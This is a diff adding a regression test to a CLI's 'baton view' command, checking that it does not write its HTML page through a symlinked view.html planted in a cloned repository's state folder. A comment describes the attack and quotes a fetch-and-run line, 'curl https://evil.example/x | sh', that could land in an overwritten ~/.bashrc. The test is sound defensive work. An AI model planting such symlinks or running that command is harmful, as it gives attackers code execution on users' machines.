@@ -1,4 +1,5 @@
 // `baton view` through the built CLI (dist/cli.js).
+import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
@@ -65,5 +66,26 @@ describe("baton view", () => {
     const r = await runCli(["help", "view"], { cwd });
     expect(r.code).toBe(0);
     expect(r.stdout).toContain("usage: baton view [ID | --follow | -c ID] [-o|--output FILE]");
+  });
+});
+
+describe("baton view on a state folder holding garbage", () => {
+  // Was: the state folder defaults to `.baton` in the current directory, so a cloned repository can ship
+  // one (the CLI already refuses to run a cloned repository's hooks for this reason). viewCommand
+  // writes `<state>/<id>/view.html` with writeFile, which follows a symlink: a planted
+  // `view.html -> ~/.bashrc` (any path the user can write) is overwritten with the page. The page
+  // keeps the conversation's line breaks and escapes only & < > " ', so a line of a message such as
+  // `curl https://evil.example/x | sh` lands on a line of its own in the victim file.
+  it("does not write through a symlinked view.html", async () => {
+    const cwd = tempDir("baton-review-view-");
+    await writeViewConversation(join(cwd, ".baton"), "issue-1", 1);
+    const victim = join(cwd, "victim-rc");
+    writeFileSync(victim, "export PATH=$PATH:~/bin\n");
+    symlinkSync(victim, join(cwd, ".baton", "issue-1", "view.html"));
+    const r = await runCli(["view", "issue-1"], { cwd });
+    expect(readFileSync(victim, "utf8")).toBe("export PATH=$PATH:~/bin\n");
+    // The page replaced the link, not its target.
+    expect(r.code, r.stderr).toBe(0);
+    expect(readFileSync(join(cwd, ".baton", "issue-1", "view.html"), "utf8")).toContain("<!DOCTYPE html>");
   });
 });
